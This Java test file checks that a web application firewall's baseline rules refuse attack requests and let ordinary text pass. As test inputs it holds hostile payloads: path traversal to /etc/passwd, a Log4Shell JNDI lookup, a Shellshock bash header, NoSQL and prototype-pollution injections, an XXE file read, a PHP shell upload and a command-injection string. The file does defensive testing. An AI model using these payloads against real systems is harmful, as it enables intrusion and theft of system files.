package gatehouse.plugin.waf;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import gatehouse.seclang.Transaction;
import gatehouse.seclang.Waf;
import gatehouse.seclang.body.Connection;
import gatehouse.seclang.body.Header;
import gatehouse.seclang.body.RequestHead;
import gatehouse.seclang.body.ResponseHead;
import gatehouse.seclang.rule.Intervention;
import gatehouse.seclang.text.Bytes;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Objects;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/// The rules that come with the gateway, against attacks and against what people and programs
/// really send. Attacks stand one a line in `attacks.txt`, the rest in `harmless.txt`.
class BaselineTest {
  private static final Waf WAF = waf("SecRuleEngine On");

  private static Waf waf(String directives) {
    RuleSet set =
        RuleSets.SHARED.get(
            new RuleSetText(
                "block",
                "baseline",
                null,
                null,
                null,
                null,
                directives,
                null,
                null,
                null,
                true,
                null,
                null));
    assertThat(set.faults()).isEmpty();
    return Objects.requireNonNull(set.waf());
  }

  static Stream<String> attacks() {
    return lines("attacks.txt");
  }

  static Stream<String> harmless() {
    return lines("harmless.txt");
  }

  /// `\n`, `\r`, `\0` and `\xHH` stand for bytes.
  private static Stream<String> lines(String file) {
    return RuleSetText.resource("/gatehouse/plugin/waf/" + file)
        .lines()
        .filter(line -> !line.isEmpty() && !line.startsWith("# "));
  }

  private static String unescaped(String line) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < line.length(); i++) {
      if (line.startsWith("\\n", i)) {
        out.append('\n');
        i++;
      } else if (line.startsWith("\\r", i)) {
        out.append('\r');
        i++;
      } else {
        out.append(line.charAt(i));
      }
    }
    return out.toString();
  }

  private static String encoded(String value) {
    return URLEncoder.encode(unescaped(value), StandardCharsets.ISO_8859_1);
  }

  private static String json(String value) {
    String text = unescaped(value).replace("\\", "\\\\").replace("\"", "\\\"");
    return "{\"comment\": {\"text\": \""
        + text.replace("\n", "\\n").replace("\r", "\\r").replace("\t", "\\t")
        + "\"}}";
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void an_attack_is_refused_in_a_query_a_form_a_json_document_and_a_cookie(String attack) {
    assertThat(get("/search?q=" + encoded(attack))).as("query").isNotNull();
    assertThat(post("application/x-www-form-urlencoded", "q=" + encoded(attack)))
        .as("form")
        .isNotNull();
    assertThat(post("application/json", json(attack))).as("JSON").isNotNull();
    assertThat(send("GET", "/", List.of(Header.of("Cookie", "c=" + encoded(attack))), ""))
        .as("cookie")
        .isNotNull();
  }

  @ParameterizedTest
  @MethodSource("harmless")
  void what_people_send_passes(String text) {
    assertThat(get("/search?q=" + encoded(text))).as("query").isNull();
    assertThat(post("application/x-www-form-urlencoded", "a=1&comment=" + encoded(text)))
        .as("form")
        .isNull();
    assertThat(post("application/json", json(text))).as("JSON").isNull();
  }

  /// libinjection's published payloads, where they lie beside the project: all that is script, nine
  /// in ten of what has SQL's grammar (not all of that is an attack), and nothing else.
  @ParameterizedTest
  @CsvSource({"detectSQLi, 90", "detectXSS, 100"})
  void published_payloads_are_told_apart(String kind, int atLeast) throws IOException {
    Path file = Path.of("../../shared/data/libinjection").resolve(kind + "-payloads.json");
    assumeTrue(Files.exists(file), "the payloads are not beside the project");
    int attacks = 0;
    int refused = 0;
    for (JsonNode payload : new JsonMapper().readTree(Files.readAllBytes(file))) {
      byte[] input = HexFormat.of().parseHex(payload.path("input_hex").asString());
      String text = new String(input, StandardCharsets.ISO_8859_1);
      String target = "/search?q=" + URLEncoder.encode(text, StandardCharsets.ISO_8859_1);
      if (payload.path("ret").asInt() == 0) {
        assertThat(get(target)).as(text).isNull();
      } else {
        attacks++;
        refused += get(target) == null ? 0 : 1;
      }
    }
    System.out.printf("baseline, %s: %d of %d payloads refused%n", kind, refused, attacks);
    assertThat(refused * 100).isGreaterThanOrEqualTo(attacks * atLeast);
  }

  @Test
  void probes_in_the_head_are_refused() {
    assertThat(send("TRACE", "/", List.of(), "")).isNotNull();
    assertThat(send("GET", "/", List.of(Header.of("User-Agent", "sqlmap/1.7")), "")).isNotNull();
    assertThat(send("GET", "/", List.of(Header.of("Proxy", "http://x.example")), "")).isNotNull();
    assertThat(get("/.git/config")).isNotNull();
    assertThat(get("/static/../.env")).isNotNull();
    assertThat(get("/%2e%2e/%2e%2e/etc/passwd")).isNotNull();
    assertThat(get("/a?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd")).isNotNull();
    assertThat(get("/a?f=..%c0%af..%c0%afetc")).isNotNull();
    assertThat(send("GET", "/", List.of(Header.of("X-Api-Version", "${jndi:ldap://x/a}")), ""))
        .isNotNull();
    assertThat(send("GET", "/", List.of(Header.of("User-Agent", "() { :;}; /bin/bash -c id")), ""))
        .isNotNull();
  }

  @Test
  void names_of_arguments_are_looked_at() {
    assertThat(get("/login?user[$ne]=x&pass[$ne]=x")).isNotNull();
    assertThat(post("application/json", "{\"user\": {\"$gt\": \"\"}}")).isNotNull();
    assertThat(post("application/json", "{\"__proto__\": {\"admin\": true}}")).isNotNull();
    assertThat(
            post(
                "application/x-www-form-urlencoded",
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"))
        .isNotNull();
  }

  @Test
  void a_document_that_reads_files_is_refused() {
    String xml =
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM"
            + " \"file:///etc/hostname\">]><a>&x;</a>";

    assertThat(post("application/xml", xml)).isNotNull();
    assertThat(post("text/xml", xml)).isNotNull();
    assertThat(post("application/soap+xml", xml)).isNotNull();
    assertThat(get("/?x=" + encoded(xml))).isNotNull();
    assertThat(post("application/xml", "<a><b>1</b></a>")).isNull();
  }

  @Test
  void uploads_of_programs_are_refused_and_pictures_pass() {
    assertThat(upload("shell.php", "x")).isNotNull();
    assertThat(upload("shell.php.jpg", "x")).isNotNull();
    assertThat(upload("holiday.jpg", "ÿØÿà JFIF ' or 1=1")).isNull();
  }

  private static @Nullable Intervention upload(String name, String content) {
    String body =
        "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\""
            + name
            + "\"\r\nContent-Type: image/jpeg\r\n\r\n"
            + content
            + "\r\n--b--\r\n";
    return post("multipart/form-data; boundary=b", body);
  }

  @Test
  void an_answer_that_tells_too_much_is_refused() {
    assertThat(answer("<p>You have an error in your SQL syntax near 'x'</p>")).isNotNull();
    assertThat(answer("-----BEGIN RSA PRIVATE KEY-----\nMIIE")).isNotNull();
    assertThat(answer("<p>SQL is a language for databases; an error is nothing to fear.</p>"))
        .isNull();
  }

  private static @Nullable Intervention answer(String body) {
    Transaction transaction = WAF.begin(new Connection("192.0.2.1", 1, "192.0.2.2", 80), "t");
    transaction.requestHead(head("GET", "/", List.of()));
    transaction.endRequest();
    transaction.responseHead(
        new ResponseHead(
            200, Bytes.of("HTTP/1.1"), List.of(Header.of("Content-Type", "text/html"))));
    byte[] bytes = body.getBytes(StandardCharsets.ISO_8859_1);
    transaction.responseBody(bytes, 0, bytes.length);
    return transaction.endResponse();
  }

  @Test
  void a_higher_paranoia_level_adds_rules_and_a_threshold_decides_what_is_too_much() {
    String target = "/?q=" + encoded("select name from customers");

    assertThat(get(target)).isNull();
    Waf strict = waf("SecAction \"id:1,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level=2\"");
    assertThat(run(strict, "GET", target, List.of(), "")).isNotNull();
    Waf lax =
        waf("SecAction \"id:1,phase:1,pass,nolog,setvar:tx.inbound_anomaly_score_threshold=100\"");
    assertThat(run(lax, "GET", "/?q=" + encoded("; cat /etc/passwd"), List.of(), "")).isNull();
  }

  private static @Nullable Intervention get(String target) {
    return send("GET", target, List.of(), "");
  }

  private static @Nullable Intervention post(String type, String body) {
    return send("POST", "/", List.of(Header.of("Content-Type", type)), body);
  }

  private static @Nullable Intervention send(
      String method, String target, List<Header> more, String body) {
    return run(WAF, method, target, more, body);
  }

  private static @Nullable Intervention run(
      Waf waf, String method, String target, List<Header> more, String body) {
    Transaction transaction = waf.begin(new Connection("192.0.2.1", 1, "192.0.2.2", 80), "t");
    transaction.requestHead(head(method, target, more));
    byte[] bytes = body.getBytes(StandardCharsets.ISO_8859_1);
    transaction.requestBody(bytes, 0, bytes.length);
    return transaction.endRequest();
  }

  private static RequestHead head(String method, String target, List<Header> more) {
    List<Header> headers = new ArrayList<>();
    headers.add(Header.of("Host", "api.example"));
    if (more.stream().noneMatch(h -> h.name().equalsIgnoreCase(Bytes.of("user-agent")))) {
      headers.add(
          Header.of("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Firefox/140.0"));
    }
    headers.addAll(more);
    return new RequestHead(Bytes.of(method), Bytes.of(target), Bytes.of("HTTP/1.1"), headers);
  }
}
